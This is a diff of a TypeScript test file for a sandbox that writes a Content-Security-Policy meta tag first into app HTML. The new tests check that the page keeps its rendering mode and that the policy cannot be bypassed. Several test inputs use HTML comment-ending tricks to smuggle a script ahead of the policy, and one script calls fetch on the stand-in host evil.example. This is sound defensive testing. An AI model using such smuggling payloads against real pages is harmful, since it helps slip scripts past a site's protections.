@@ -45,16 +45,45 @@ describe('innerSandbox', () => {
 })
 
 describe('withCspMeta', () => {
+  const policy = 'default-src "x"'
   const meta = '<meta http-equiv="Content-Security-Policy" content="default-src &quot;x&quot;">'
+  const parse = (html: string) => new DOMParser().parseFromString(html, 'text/html')
+  /** What the browser builds from the written document: the first element of all, and the mode it renders in. */
+  function written(html: string) {
+    const document = parse(withCspMeta(html, policy))
+    return { first: document.querySelector('*:not(html, head)'), scripts: document.querySelectorAll('script').length, mode: document.compatMode }
+  }
 
-  it('puts the policy first, after a doctype (and comments before it) so the app keeps standards mode', () => {
-    expect(withCspMeta('<!DOCTYPE html><html><body>hi</body></html>', 'default-src "x"')).toBe(`<!DOCTYPE html>${meta}<html><body>hi</body></html>`)
-    expect(withCspMeta('\uFEFF  <!-- built --><!doctype html>\n<p>x', 'default-src "x"')).toBe(`\uFEFF  <!-- built --><!doctype html>${meta}\n<p>x`)
-    expect(withCspMeta('<p>no doctype</p>', 'default-src "x"')).toBe(`${meta}<p>no doctype</p>`)
+  it('puts the policy first and keeps the mode the app would render in', () => {
+    expect(withCspMeta('<!DOCTYPE html><html><body>hi</body></html>', policy)).toBe(`<!DOCTYPE html>${meta}<!DOCTYPE html><html><body>hi</body></html>`)
+    expect(withCspMeta('<p>no doctype</p>', policy)).toBe(`${meta}<p>no doctype</p>`)
+    for (const html of [
+      '<!DOCTYPE html><html><body>hi</body></html>',
+      '  <!-- built --><!doctype html>\n<p>x',
+      '<p>no doctype</p>',
+      '<p>first</p><!doctype html>',
+      '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd"><p>x',
+      '<!DOCTYPE html PUBLIC "-//W3C//DTD HTML 4.01 Transitional//EN"><p>quirks</p>',
+    ]) {
+      const { first, mode } = written(html)
+      expect(first?.getAttribute('http-equiv'), html).toBe('Content-Security-Policy')
+      expect(mode, html).toBe(parse(html).compatMode)
+    }
+    expect(written('<!DOCTYPE html><p>x').mode).toBe('CSS1Compat')
+    expect(written('<p>x').mode).toBe('BackCompat')
   })
 
-  it('does not take a doctype that comes after content', () => {
-    expect(withCspMeta('<p>first</p><!doctype html>', 'default-src "x"')).toBe(`${meta}<p>first</p><!doctype html>`)
+  it("is not fooled by the comment endings HTML knows: the app's script never comes before the policy", () => {
+    for (const html of [
+      '<!--><script id="evil">fetch("https://evil.example/x")</script>--><!doctype html><p>app</p>',
+      '<!---><script id="evil">1</script>--><!doctype html><p>app</p>',
+      '<!-- a --!><script id="evil">1</script>--><!doctype html><p>app</p>',
+      `${'<!---->'.repeat(64)}<script id="evil">1</script>`,
+    ]) {
+      const { first, scripts } = written(html)
+      expect(scripts, html).toBe(1)
+      expect(first?.getAttribute('http-equiv'), html).toBe('Content-Security-Policy')
+    }
   })
 })
 
@@ -119,6 +148,18 @@ describe('startSandboxProxy', () => {
     expect(head.firstElementChild?.getAttribute('content')).toBe(policy)
     expect(app.contentDocument!.getElementById('app')?.textContent).toBe('Seats')
     expect(proxy.document.head.querySelector('meta[http-equiv="Content-Security-Policy"]')?.getAttribute('content')).toBe(policy)
+  })
+
+  it('adopts the policy in its own document before it makes the app frame', () => {
+    const { proxy, fromHost } = proxyFrame()
+    const guarded: boolean[] = []
+    const create = proxy.document.createElement.bind(proxy.document)
+    proxy.document.createElement = ((name: string) => {
+      if (name === 'iframe') guarded.push(proxy.document.head.querySelector('meta[http-equiv="Content-Security-Policy"]') !== null)
+      return create(name)
+    }) as typeof proxy.document.createElement
+    fromHost(resource)
+    expect(guarded).toEqual([true])
   })
 
   it('ignores the host page at another origin, and anything before the resource', () => {
